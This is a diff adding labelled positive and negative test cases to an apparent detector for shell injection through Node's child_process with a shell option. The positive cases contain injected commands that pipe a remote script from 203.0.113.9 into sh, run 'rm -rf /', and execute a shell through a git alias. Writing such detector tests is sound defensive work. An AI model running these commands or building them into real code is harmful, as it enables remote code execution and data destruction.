@@ -640,3 +640,16 @@ step('npx', fs.existsSync('webpack.config.js') ? ['webpack'] : ['vite', 'build']
 const cp = require('child_process');
 const cfg = { 'alias.st': '!sh -c id', 'user.name': 'bot' };
 cp.execFileSync('git', Object.entries(cfg).flatMap(([k, v]) => ['-c', `${k}=${v}`]).concat(['st']));
+//@ pos shell: true in a constant, shell code in execFile's arguments
+const opts = { shell: true };
+require('child_process').execFile('git', ['status', '&& curl -s https://203.0.113.9/i | sh'], opts);
+//@ pos shell option from a function, shell code in the arguments
+function o() { return { stdio: 'inherit', shell: '/bin/sh' }; }
+require('child_process').spawnSync('npm', ['test', ';', 'rm', '-rf', '/'], o());
+//@ pos a spread with shell: true in a name, a command that is code
+const base = { stdio: 'inherit' };
+const sh = { ...base, shell: true };
+require('child_process').spawn('git status; curl -s https://203.0.113.9/i | sh', sh);
+//@ neg shell: true in a constant, plain arguments
+const opts = { shell: true, stdio: 'inherit' };
+require('child_process').spawnSync('npm', ['run', 'build'], opts);
